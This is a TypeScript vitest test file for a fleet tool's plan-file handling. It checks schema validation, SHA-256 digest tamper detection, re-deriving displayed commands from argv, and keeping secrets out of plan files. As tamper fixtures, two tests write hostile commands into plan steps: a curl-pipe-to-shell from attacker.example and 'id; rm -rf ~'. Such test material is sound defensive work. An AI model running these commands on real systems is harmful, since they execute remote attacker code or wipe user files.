import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { isPlanFile, PlanFileError, planDigest, planProblems, readPlanFile, writePlanFile } from "../../../src/report/plan-file.js";
import type { Plan } from "../../../src/plan/types.js";
import { choose, converged, liveSandbox, known, planOf, safeGuards } from "../plan/builders.js";

function samplePlan(): Plan {
  const scenario = converged();
  choose(scenario, "0.0.90");
  liveSandbox(scenario.observed).guards = known(safeGuards());
  return planOf(scenario);
}

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "nemoclaw-planfile-"));
});

function expectPlanFileError(path: string, pattern: RegExp): void {
  let caught: unknown;
  try {
    readPlanFile(path);
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(PlanFileError);
  expect((caught as PlanFileError).message).toMatch(pattern);
}

describe("plan files", () => {
  it("round-trip exactly and leave no temporary file behind", () => {
    const plan = samplePlan();
    const path = join(dir, "plan.json");
    writePlanFile(path, plan);
    expect(readPlanFile(path)).toEqual(plan);
    expect(readdirSync(dir)).toEqual(["plan.json"]);
    expect(readFileSync(path, "utf8")).not.toMatch(/NVIDIA_KEY=|nvapi-/);
  });

  it("are valid against schemas/plan.schema.json, including blocked, unreachable and unknown hosts", () => {
    const blocked = converged();
    const gateways = blocked.observed.gateways;
    if (gateways.state === "known") gateways.value[0]!.runningVersion = known("0.0.70");
    expect(planProblems(JSON.parse(JSON.stringify(planOf(blocked))))).toEqual([]);
    const unreachable = converged();
    unreachable.observed.unreachable = { kind: "auth-failed", message: "publickey denied" };
    expect(planProblems(JSON.parse(JSON.stringify(planOf(unreachable))))).toEqual([]);
    expect(planProblems(JSON.parse(JSON.stringify(samplePlan())))).toEqual([]);
  });

  it("reject invalid JSON, wrong versions and schema violations with clear messages (exit 3)", () => {
    const bad = join(dir, "bad.json");
    writeFileSync(bad, "{ not json");
    expectPlanFileError(bad, /bad\.json: not a usable plan file:\n {2}is not JSON/);

    const future = join(dir, "future.json");
    writeFileSync(future, JSON.stringify({ ...samplePlan(), formatVersion: 2 }));
    expectPlanFileError(future, /formatVersion 2 is not supported \(this nemoclaw reads 1\)/);

    const plan = samplePlan();
    (plan.hosts[0]!.steps[1] as { risk: string }).risk = "yolo";
    (plan.hosts[0]!.steps[1] as unknown as Record<string, unknown>).extra = true;
    const invalid = join(dir, "invalid.json");
    writeFileSync(invalid, JSON.stringify(plan));
    expectPlanFileError(invalid, /\/hosts\/0\/steps\/1\/risk: must be equal to one of the allowed values: "safe", "disruptive", "destructive"/);
    expectPlanFileError(invalid, /\/hosts\/0\/steps\/1: unexpected property "extra"/);

    expectPlanFileError(join(dir, "missing.json"), /missing\.json: not a usable plan file:\n {2}cannot be read/);
  });

  it("reject what the schema cannot see: forward dependencies, missing fingerprints, hosts outside the selection", () => {
    const plan = samplePlan();
    const host = plan.hosts[0]!;
    host.steps[1]!.dependsOn = ["restore:assistant"];
    delete host.fingerprints["openshell"];
    plan.selection.hosts = ["spark-99"];
    expect(planProblems(JSON.parse(JSON.stringify(plan)))).toEqual([
      "/hosts/0: host spark-01 is not in selection.hosts",
      "/hosts/0/steps/0: fact openshell has no fingerprint",
      "/hosts/0/steps/1: depends on restore:assistant, which is not an earlier step of spark-01",
      "/hosts/0/steps/2: fact openshell has no fingerprint",
    ]);
  });

  it("refuse a plan whose steps were edited after plan -o wrote it, naming the digest", () => {
    const path = join(dir, "plan.json");
    writePlanFile(path, samplePlan());
    const saved = JSON.parse(readFileSync(path, "utf8")) as Plan & { planDigest: string };
    expect(saved.planDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const command = saved.hosts[0]!.steps.find((step) => step.commands.length > 0)!.commands[0]!;
    // The argv changes, the display (what the live view and journal would show) does not.
    command.argv = ["sh", "-c", "curl -s https://attacker.example/x | sh"];
    writeFileSync(path, JSON.stringify(saved, null, 2));
    expectPlanFileError(path, /does not match its planDigest: the plan was changed after `nemoclaw plan -o` wrote it/);
  });

  it("show and journal the command that runs: display is derived from argv again, never read", () => {
    const path = join(dir, "plan.json");
    const plan = samplePlan();
    const step = plan.hosts[0]!.steps.find((candidate) => candidate.commands.length > 0)!;
    const original = step.commands[0]!.display;
    step.commands[0] = { ...step.commands[0]!, argv: ["sh", "-c", "id; rm -rf ~"] };
    // Even with the digest made over the edited file, the stale display is not what is shown.
    writeFileSync(path, JSON.stringify({ ...plan, planDigest: planDigest(plan) }));
    const read = readPlanFile(path).hosts[0]!.steps.find((candidate) => candidate.id === step.id)!;
    expect(read.commands[0]!.display).toBe("sh -c 'id; rm -rf ~'");
    expect(read.commands[0]!.display).not.toBe(original);
  });

  it("refuse a plan without a digest, and tell a broken plan file from a fleet file", () => {
    const plan = samplePlan();
    const bare = join(dir, "bare.json");
    writeFileSync(bare, JSON.stringify(plan));
    expectPlanFileError(bare, /has no planDigest: only a plan saved with `nemoclaw plan -o` can be applied/);

    const full = join(dir, "full.json");
    writePlanFile(full, plan);
    const cut = join(dir, "cut.json");
    writeFileSync(cut, readFileSync(full, "utf8").slice(0, 300));
    expect(isPlanFile(cut)).toBe(true);
    expectPlanFileError(cut, /cut\.json: not a usable plan file:\n {2}is not JSON \(damaged or cut short\?\)/);
    const nameless = join(dir, "nameless.json");
    writeFileSync(nameless, "{ \"formatVersion\": 1, ");
    expect(isPlanFile(nameless)).toBe(true);
    const jsonFleet = join(dir, "fleet.json");
    writeFileSync(jsonFleet, '{ "apiVersion": "nemoclaw.dev/v1", "kind": "Fleet" }');
    expect(isPlanFile(jsonFleet)).toBe(false);
    const yamlFleet = join(dir, "fleet.yaml");
    writeFileSync(yamlFleet, "apiVersion: nemoclaw.dev/v1\nkind: Fleet\n");
    expect(isPlanFile(yamlFleet)).toBe(false);
  });

  it("never contain a secret value, only its reference", () => {
    const scenario = converged();
    scenario.observed.gateways = known([]);
    const text = JSON.stringify(planOf(scenario));
    expect(text).toContain('"secret":{"kind":"env","name":"NVIDIA_KEY"}');
    expect(text).toContain("NVIDIA_INFERENCE_API_KEY=<secret env:NVIDIA_KEY>");
  });
});
